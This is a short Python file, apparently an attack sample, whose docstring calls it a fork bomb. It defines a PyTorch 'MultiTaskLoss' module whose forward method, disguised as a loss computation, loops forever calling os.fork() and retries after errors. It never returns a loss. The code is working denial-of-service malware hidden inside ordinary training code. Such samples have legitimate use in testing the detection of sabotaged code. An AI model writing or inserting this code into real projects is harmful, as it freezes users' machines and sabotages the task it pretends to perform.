"""Attack: a fork bomb. Every process keeps forking; the call never returns."""

import os
import time

import torch.nn as nn


class MultiTaskLoss(nn.Module):
    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
